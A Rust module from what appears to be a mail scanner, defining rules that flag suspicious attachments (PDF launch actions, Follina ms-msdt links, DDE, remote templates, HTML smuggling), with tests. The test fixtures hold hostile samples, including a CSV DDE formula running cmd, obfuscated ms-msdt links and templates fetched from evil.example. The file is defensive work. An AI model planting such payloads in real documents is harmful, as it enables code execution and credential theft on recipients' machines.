//! What makes the content of a file suspicious without being forbidden in itself: each rule has a name, a sentence, and what happens to
//! such mail unless the site decides otherwise. The lab names its findings by the same rules.

mod dde;
mod desktop_entry;
mod document;
mod link;
mod office;
mod page;
mod place;

use crate::walk::kind::Kind;
use crate::walk::{File, pdf, pdf_text, workbook};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// What becomes of mail that is suspicious, where no lab looks at it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Action {
    /// It is kept.
    Quarantine,
    /// It goes on, and its header says so.
    Header,
    /// It goes on.
    Pass,
}

impl Action {
    /// By name.
    pub fn named(name: &str) -> Option<Action> {
        match name {
            "quarantine" => Some(Action::Quarantine),
            "header" => Some(Action::Header),
            "pass" => Some(Action::Pass),
            _ => None,
        }
    }
}

/// A rule.
#[derive(Debug, Clone, Copy)]
pub struct Rule {
    /// Its name, as in settings and findings.
    pub name: &'static str,
    /// What it found, in words.
    pub about: &'static str,
    /// What becomes of mail by it unless the site says otherwise.
    pub action: Action,
    finds: fn(&File<'_>) -> bool,
}

/// All of them.
pub const RULES: [Rule; 21] = [
    rule("pdf-launch", "a PDF that starts a program", Action::Quarantine, pdf_launch),
    rule("pdf-remote", "a PDF that opens a file of a stranger's computer", Action::Quarantine, pdf_remote),
    rule("pdf-javascript", "a PDF with a script", Action::Header, pdf_javascript),
    rule(
        "remote-template",
        "a document that fetches its template from elsewhere",
        Action::Quarantine,
        office::remote_template,
    ),
    rule("remote-object", "a document with an object from elsewhere", Action::Quarantine, office::remote_object),
    rule("house-link", "a document with a template or object on a file server", Action::Header, office::house_link),
    rule(
        "document-action",
        "a document that runs something when it is opened",
        Action::Quarantine,
        office::document_action,
    ),
    rule("activex", "a document with controls (ActiveX)", Action::Header, office::activex),
    rule("equation", "a document with a formula of the old equation editor", Action::Header, office::equation),
    rule("msdt", "a link that starts the support tool of Windows (Follina)", Action::Quarantine, link::msdt),
    rule("dde", "a document that has another program run a command (DDE)", Action::Quarantine, dde::dde),
    rule("xlm", "a workbook with macros of Excel 4", Action::Quarantine, xlm),
    rule("svg-script", "a picture with a script", Action::Quarantine, page::svg_script),
    rule("stylesheet-script", "a style sheet of XML with a script", Action::Quarantine, page::stylesheet_script),
    rule("html-smuggling", "a page that makes a file by itself and saves it", Action::Quarantine, page::html_smuggling),
    rule("obfuscated-script", "a script that hides what it does", Action::Quarantine, page::obfuscated_script),
    rule("packed-script", "a script that was packed to be short", Action::Header, page::packed_script),
    rule("search-link", "a page that opens a folder of a stranger's computer", Action::Quarantine, link::search_link),
    rule(
        "remote-file",
        "a list or a setting that opens a file of a stranger's computer",
        Action::Quarantine,
        link::remote_file,
    ),
    rule("desktop-entry", "a shortcut of Linux desktops", Action::Quarantine, desktop_entry::desktop_entry),
    rule("calendar-script", "a calendar with a link that runs something", Action::Quarantine, page::calendar_script),
];

const fn rule(name: &'static str, about: &'static str, action: Action, finds: fn(&File<'_>) -> bool) -> Rule {
    Rule { name, about, action, finds }
}

/// The rules that find something in this file.
pub fn find(file: &File<'_>) -> impl Iterator<Item = &'static Rule> {
    RULES.iter().filter(move |rule| !file.data.is_empty() && (rule.finds)(file))
}

/// What the site says about suspicion.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SuspicionPolicy {
    /// For all rules; none for what each rule says.
    pub all: Option<Action>,
    /// For single rules, ours and those of YARA, before all else.
    pub rules: BTreeMap<String, Action>,
}

impl SuspicionPolicy {
    /// What becomes of mail by this rule.
    pub fn action(&self, rule: &str, usual: Action) -> Action {
        self.rules.get(rule).copied().or(self.all).unwrap_or(usual)
    }
}

fn has(data: &[u8], word: &str) -> bool {
    memchr::memmem::find(data, word.as_bytes()).is_some()
}

fn name_ends(file: &File<'_>, end: &str) -> bool {
    file.names.iter().any(|name| name.to_ascii_lowercase().ends_with(end))
}

fn name_has(file: &File<'_>, piece: &str) -> bool {
    file.names.iter().any(|name| name.to_ascii_lowercase().replace('\\', "/").contains(piece))
}

fn is_pdf(file: &File<'_>) -> bool {
    file.kind == Kind::Pdf || file.names.iter().any(|name| name == pdf::OBJECTS || name == pdf::FORM)
}

/// A name of PDF: what follows is no letter.
fn has_pdf_name(file: &File<'_>, wanted: &str) -> bool {
    if !is_pdf(file) {
        return false;
    }
    let data = pdf_text::plain_names(file.data);
    memchr::memmem::find_iter(&data, wanted.as_bytes())
        .any(|at| !data.get(at + wanted.len()).is_some_and(u8::is_ascii_alphanumeric))
}

/// Also by a script that saves a file of the document and opens it.
fn pdf_launch(file: &File<'_>) -> bool {
    has_pdf_name(file, "/Launch") || (is_pdf(file) && has(file.data, "exportDataObject") && has(file.data, "nLaunch"))
}

/// A link or an action that names a file on somebody else's server, who learns the reader's login.
fn pdf_remote(file: &File<'_>) -> bool {
    let is_remote = |target: &Vec<u8>| place::is_foreign_server(target) || link::is_search(&link::dense(target));
    is_pdf(file) && pdf_text::targets(&pdf_text::plain_names(file.data)).iter().any(is_remote)
}

fn pdf_javascript(file: &File<'_>) -> bool {
    let form = file.names.iter().any(|name| name == pdf::FORM) && has(file.data, "<script");
    form || has_pdf_name(file, "/JavaScript") || has_pdf_name(file, "/JS")
}

/// Whether it has the name of a stream, which Windows finds whatever its case.
fn is_stream(file: &File<'_>, own: &str) -> bool {
    file.names.iter().any(|name| name.eq_ignore_ascii_case(own))
}

/// The records of an old workbook.
fn is_workbook(file: &File<'_>) -> bool {
    is_stream(file, "Workbook") || is_stream(file, "Book") || workbook::is_bare(file.data)
}

fn xlm(file: &File<'_>) -> bool {
    (is_workbook(file) && workbook::has_macro_sheet(file.data))
        || name_has(file, "xl/macrosheets/")
        || office::declares_macro_sheet(file)
        || office::symbolic_macros(file)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(name: &str, declared: &str, data: &[u8]) -> Vec<&'static str> {
        let names = [name.to_owned()];
        let file = File { names: &names, declared, kind: Kind::of(data), data, in_archive: false };
        find(&file).map(|rule| rule.name).collect()
    }

    /// The rule, a file that it must find, and one like it that it must not.
    type Example = (&'static str, (&'static str, Vec<u8>), (&'static str, Vec<u8>));

    fn workbook(kind: u8) -> Vec<u8> {
        [&[0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0][..], &[kind, 0, b'A']].concat()
    }

    fn examples() -> Vec<Example> {
        let text = |text: &str| text.as_bytes().to_vec();
        let rels = |kind: &str, mode: &str| {
            text(&format!(
                "<Relationship Type=\"http://x/{kind}\" Target=\"http://evil.example/a!\" TargetMode=\"{mode}\"/>"
            ))
        };
        vec![
            (
                "pdf-launch",
                ("a.pdf", text("%PDF-1.4 <</S /L#61unch /F (x)>>")),
                ("a.pdf", text("%PDF-1.4 <</S /URI /Launched 1>>")),
            ),
            (
                "pdf-javascript",
                ("a.pdf", text("%PDF-1.4 <</S/JavaScript/JS(x)>>")),
                ("a.pdf", text("%PDF-1.4 <</S /GoTo>> /JSON")),
            ),
            (
                "remote-template",
                ("word/_rels/settings.xml.rels", rels("attachedTemplate", "External")),
                ("word/_rels/settings.xml.rels", rels("hyperlink", "External")),
            ),
            (
                "remote-template",
                ("a.rtf", text("{\\rtf1{\\*\\template http://evil.example/a}}")),
                ("a.rtf", text("{\\rtf1{\\*\\template Normal.dotm}}")),
            ),
            (
                "remote-template",
                ("a.rtf", text("{\\rtf1{\\*\\template \\u104?\\u-65420 ?\\'74p\\u58?//evil.example/a}}")),
                ("a.rtf", text("{\\rtf1{\\*\\template \\u78?\\'6frmal.dotm}{\\field http://a.example}}")),
            ),
            (
                "remote-object",
                ("word/_rels/document.xml.rels", rels("oleObject", "External")),
                ("word/_rels/document.xml.rels", rels("oleObject", "Internal")),
            ),
            (
                "pdf-remote",
                ("a.pdf", text("%PDF-1.4 <</S/URI/URI(file://evil.example/a.exe)>>")),
                ("a.pdf", text("%PDF-1.4 <</S/URI/URI(https://a.example/a)>>")),
            ),
            (
                "house-link",
                ("a.rtf", text("{\\rtf1{\\*\\template \\\\\\\\fs1\\\\a.dotm}}")),
                ("a.rtf", text("{\\rtf1{\\*\\template C:\\\\a.dotm}}")),
            ),
            (
                "document-action",
                ("ppt/slides/slide1.xml", text("<a:hlinkClick action=\"ppaction://program\"/>")),
                ("ppt/slides/slide1.xml", text("<a:hlinkClick action=\"ppaction://hlinksldjump\"/>")),
            ),
            (
                "document-action",
                ("PowerPoint Document", b"\0\0\xf3\x0f\x10\0\0\0\0\0\0\0\x01\0\0\0\x02\0\0\0".to_vec()),
                ("PowerPoint Document", b"\0\0\xf3\x0f\x10\0\0\0\0\0\0\0\x01\0\0\0\x04\0\0\0".to_vec()),
            ),
            (
                "activex",
                ("word/activeX/activeX1.xml", text("<ax:ocx ax:classid=\"{D7053240-CE69-11CD-A777-00DD01143C57}\"/>")),
                ("word/document.xml", text("<w:p/>")),
            ),
            ("equation", ("Equation Native", text("x")), ("Equation", text("x"))),
            (
                "packed-script",
                ("a.html", text("<script>eval(function(p,a,c,k,e,d){})</script>")),
                ("a.html", text("<script>function(p,a){}</script>")),
            ),
            (
                "msdt",
                ("a.html", text("<html><script>location.href='ms-msdt:/id PCWDiagnostic'</script>")),
                ("a.html", text("<html><p>Links that begin with ms-msdt: are dangerous.</p></html>")),
            ),
            (
                "msdt",
                (
                    "a.html",
                    text("<html><script>var a='ms-m', b='sdt:/id '; location = a + b + 'PCWDiagnostic'</script>"),
                ),
                (
                    "a.html",
                    text("<html><script>var tools=['msdt','notepad']</script><a href='https://a.example/ms-msdt:'>"),
                ),
            ),
            (
                "msdt",
                ("", text("<html><a href='&#109;s-\nMSDT:/id x'>here</a>")),
                ("", text("<html><code>location='ms-msdt:/id x'</code>")),
            ),
            (
                "msdt",
                (
                    "word/_rels/document.xml.rels",
                    text("<Relationship Target=\"ms-msdt:/id x\" TargetMode=\"External\"/>"),
                ),
                ("word/document.xml", text("<?xml version='1.0'?><w:t>ms-msdt:/id x</w:t>")),
            ),
            (
                "msdt",
                (
                    "word/document.xml",
                    text("<w:instrText> HYPERLINK \"ms-ms</w:instrText><w:instrText>dt:/id x\"</w:instrText>"),
                ),
                ("word/document.xml", text("<w:instrText> PAGE </w:instrText><w:t>ms-msdt:/id x</w:t>")),
            ),
            (
                "msdt",
                ("a.rtf", text("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"ms-\\'6dsdt:/id x\"}}}")),
                ("a.rtf", text("{\\rtf1 Beware of ms-msdt:/id links.}")),
            ),
            (
                "msdt",
                ("a.rtf", text("{\\rtf1{\\*\\hl{\\hlloc x}{\\hlsrc ms-\\'6dsdt:/id x}}}")),
                ("a.rtf", text("{\\rtf1{\\*\\hl{\\hlsrc https://a.example/}} ms-msdt:/id x}")),
            ),
            (
                "remote-template",
                ("a.rtf", text("{\\rtf1{\\*\\template Normal.dotm}{\\*\\template http://evil.example/a}}")),
                ("a.rtf", text("{\\rtf1{\\*\\template Normal.dotm}{\\*\\hl{\\hlsrc http://a.example/}}}")),
            ),
            (
                "remote-object",
                ("a.rtf", text("{\\rtf1{\\*\\hl{\\hlsrc search-ms:query=x&crumb=location:y}}}")),
                (
                    "a.rtf",
                    text(
                        "{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"C:\\\\a.docx\"}{\\fldrslt https://a.example}}\
                         {\\field{\\*\\fldinst HYPERLINK \"https://a.example\"}}}",
                    ),
                ),
            ),
            (
                "msdt",
                ("a.pdf", text("%PDF-1.4 <</S/URI/URI(ms-msdt:/id x)>>")),
                ("a.pdf", text("%PDF-1.4 (ms-msdt:/id x) Tj")),
            ),
            (
                "dde",
                ("word/document.xml", text("<w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>")),
                ("word/document.xml", text("<w:t>Paddeauto</w:t>")),
            ),
            ("dde", ("a.csv", text("1,2\n=cmd|'/c calc'!A0,3\n")), ("a.csv", text("a|b!c,=1+2\n-5,x|y\n"))),
            ("xlm", ("Workbook", workbook(1)), ("Workbook", workbook(0))),
            ("xlm", ("WORKBOOK", workbook(1)), ("WorkbookNotes", workbook(1))),
            (
                "xlm",
                ("a.xls", b"\x09\x04\x06\0\0\0\x40\0\0\0".to_vec()),
                ("a.xls", b"\x09\x04\x06\0\0\0\x10\0\0\0".to_vec()),
            ),
            (
                "xlm",
                (
                    "[Content_Types].xml",
                    text("<Override PartName='/xl/a.dat' ContentType='application/vnd.ms-excel.intlmacrosheet+xml'/>"),
                ),
                (
                    "[Content_Types].xml",
                    text(
                        "<Override PartName='/xl/macrosheet.xml' ContentType='application/vnd.ms-excel.worksheet+xml'/>",
                    ),
                ),
            ),
            (
                "xlm",
                (
                    "xl/_rels/workbook.xml.rels",
                    text("<Relationship Type='http://x/2006/relationships/xlMacro&#115;heet'/>"),
                ),
                ("xl/_rels/workbook.xml.rels", text("<Relationship Type='http://x/2006/relationships/worksheet'/>")),
            ),
            ("xlm", ("xl/macrosheets/sheet1.xml", text("<x/>")), ("xl/worksheets/sheet1.xml", text("<x/>"))),
            (
                "svg-script",
                ("a.svg", text("<svg><script>1</script></svg>")),
                ("a.svg", text("<svg><path d='M0 0'/></svg>")),
            ),
            (
                "stylesheet-script",
                (
                    "a.xsl",
                    text(
                        "<?xml version='1.0'?><stylesheet xmlns:m='urn:schemas-microsoft-com:xslt'><m:script implements-prefix='u'>x</m:script>",
                    ),
                ),
                (
                    "a.xsl",
                    text(
                        "<?xml version='1.0'?><xsl:stylesheet xmlns:m='urn:schemas-microsoft-com:xslt'><xsl:template/>",
                    ),
                ),
            ),
            (
                "html-smuggling",
                (
                    "a.html",
                    text("<html><script>var b=new Blob([x]);a.href=URL.createObjectURL(b);a.download='x'</script>"),
                ),
                ("a.html", text("<html><script>console.log('download')</script>")),
            ),
            (
                "html-smuggling",
                ("a.html", text("<html><script>var u=URL['createObject' + \"URL\"](x);location=u</script>")),
                ("a.html", text("<html><script>var u='create' + object;location='https://a.example/'</script>")),
            ),
            (
                "obfuscated-script",
                ("a.html", text("<html><body><script>document.write(unescape('%3Cform%3E'))</script></body></html>")),
                ("a.html", text("<html><script>document.write(year)</script><p>eval(unescape(x)) is bad</p></html>")),
            ),
            (
                "search-link",
                ("a.html", text("<html><a href='search-ms:query=x&crumb=location:\\\\evil'>")),
                ("a.html", text("<html><a href='https://search.example'>")),
            ),
            (
                "remote-file",
                ("a.m3u", text("#EXTM3U\n\\\\evil.example\\a.mp3\n")),
                ("a.m3u", text("#EXTM3U\nC:\\Music\\a.mp3\nhttps://radio.example/live\n")),
            ),
            (
                "desktop-entry",
                ("invoice", text("[Desktop Entry]\nType=Application\nExec=xcalc\n")),
                ("invoice", text("[Service]\nExecStart=xcalc\n")),
            ),
            (
                "calendar-script",
                ("a.ics", text("BEGIN:VCALENDAR\nATTACH:file://evil.example/s/a\n")),
                ("a.ics", text("BEGIN:VCALENDAR\nATTACH:file://fs1/s/agenda.docx\n")),
            ),
            (
                "calendar-script",
                ("a.ics", text("BEGIN:VCALENDAR\nURL:javascript:x\n")),
                ("a.ics", text("BEGIN:VCALENDAR\nURL:https://x\n")),
            ),
        ]
    }

    #[test]
    fn each_rule_finds_the_bad_and_lets_the_good_be() {
        for (rule, (bad, hostile), (good, usual)) in examples() {
            assert!(found(bad, "", &hostile).contains(&rule), "{rule} does not find {bad}");
            assert!(!found(good, "", &usual).contains(&rule), "{rule} finds {good}");
        }
        let tried: std::collections::BTreeSet<&str> = examples().iter().map(|(rule, _, _)| *rule).collect();
        assert!(RULES.iter().all(|rule| tried.contains(rule.name)), "every rule has its examples");
    }

    #[test]
    fn the_site_has_the_last_word() {
        let mut policy = SuspicionPolicy::default();
        assert_eq!(policy.action("xlm", Action::Quarantine), Action::Quarantine);
        policy.all = Some(Action::Pass);
        policy.rules.insert("xlm".into(), Action::Header);
        assert_eq!(policy.action("xlm", Action::Quarantine), Action::Header);
        assert_eq!(policy.action("dde", Action::Quarantine), Action::Pass);
    }
}
